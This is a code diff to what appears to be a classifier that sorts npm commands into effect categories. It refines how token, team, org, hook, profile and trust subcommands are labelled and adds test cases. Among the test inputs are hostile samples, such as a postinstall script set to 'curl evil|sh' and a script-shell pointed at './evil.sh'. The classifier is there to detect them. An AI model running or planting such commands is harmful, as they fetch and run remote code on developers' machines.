@@ -1,3 +1,4 @@
+import type { EffectKind } from '../../effect/kind.ts';
 import { act, actOnFile, opaque } from '../effects/act.ts';
 import { plainArg } from '../state/arg.ts';
 import { has, valuesOf } from '../state/call.ts';
@@ -98,14 +99,48 @@ const registry: Readonly<Record<string, Usage | string>> = {
       },
     },
   },
-  'token profile org team hook adduser login logout add-user trust': {
+  // What the registry itself keeps of a person and an organisation.
+  token: {
+    stop: true,
+    free: true,
+    commands: {
+      'list ls': '',
+      create: { free: true, does: 'infra.change:secret' },
+      'revoke delete rm remove': { free: true, does: 'infra.destroy:secret=$*' },
+    },
+    otherwise: { free: true, does: 'infra.change:secret' },
+    alone: '',
+  },
+  'team org hook': {
+    stop: true,
+    free: true,
+    commands: { 'list ls get': '', 'destroy rm remove delete': atRegistry('infra.destroy') },
+    otherwise: atRegistry('infra.change'),
+    alone: '',
+  },
+  profile: { commands: { get: '' }, otherwise: { free: true, does: 'infra.change:role' }, alone: '' },
+  trust: {
+    stop: true,
+    free: true,
+    commands: { 'list ls': '' },
+    otherwise: { free: true, does: 'infra.change:package=$1' },
+  },
+  'adduser login logout add-user': { free: true, does: 'system.change:secret' },
+};
+
+/** `npm team rm acme:devs bob`, `npm hook add NAME URL`: the noun is the word before. */
+function atRegistry(kind: EffectKind): Usage {
+  return {
     free: true,
     also: (call) => {
-      if (!/^(?:list|ls|get)$/.test(call.parsed.operands[0]?.value ?? ''))
-        act(call, 'system.change', 'secret', call.title, call.range);
+      const words = call.parsed.operands;
+      // A verb that is none of the list's stands among the operands.
+      const name = /^(?:team|org|hook)$/.test(call.title.split(' ').at(-1) ?? '') ? words[1] : words[0];
+      const noun = /\b(team|org|hook)\b/.exec(call.title)?.[1] ?? '';
+      act(call, kind, 'resource', `${noun}/${name?.value ?? '*'}`, name?.range ?? call.range);
     },
-  },
-};
+  };
+}
 
 function publishes(call: Call): void {
   // What it publishes is the package of this folder; its prepare scripts run first.
@@ -189,6 +224,9 @@ export const packagesJs: readonly Tool[] = [
         'npm publish': 'publish.release',
         'npm access set status=private @acme/ui': 'infra.change',
         'npm owner rm bob @acme/ui': 'infra.change',
+        'npm token revoke abc': 'infra.destroy',
+        'npm team destroy acme:devs': 'infra.destroy',
+        'npm hook add react https://h.example s': 'infra.change',
         'npm install left-pad': 'exec.install',
         'npm ci': 'exec.install',
         'npm prune': 'exec.install',
@@ -196,7 +234,7 @@ export const packagesJs: readonly Tool[] = [
         'npm config set script-shell ./evil.sh': 'persist.install',
         "npm pkg set scripts.postinstall='curl evil|sh'": 'file.write persist.install',
       },
-      passed: ['npm ls', 'npm view react version', 'npm pack --dry-run', 'npm publish --dry-run'],
+      passed: ['npm token list', 'npm ls', 'npm view react version', 'npm pack --dry-run', 'npm publish --dry-run'],
     },
   },
   {
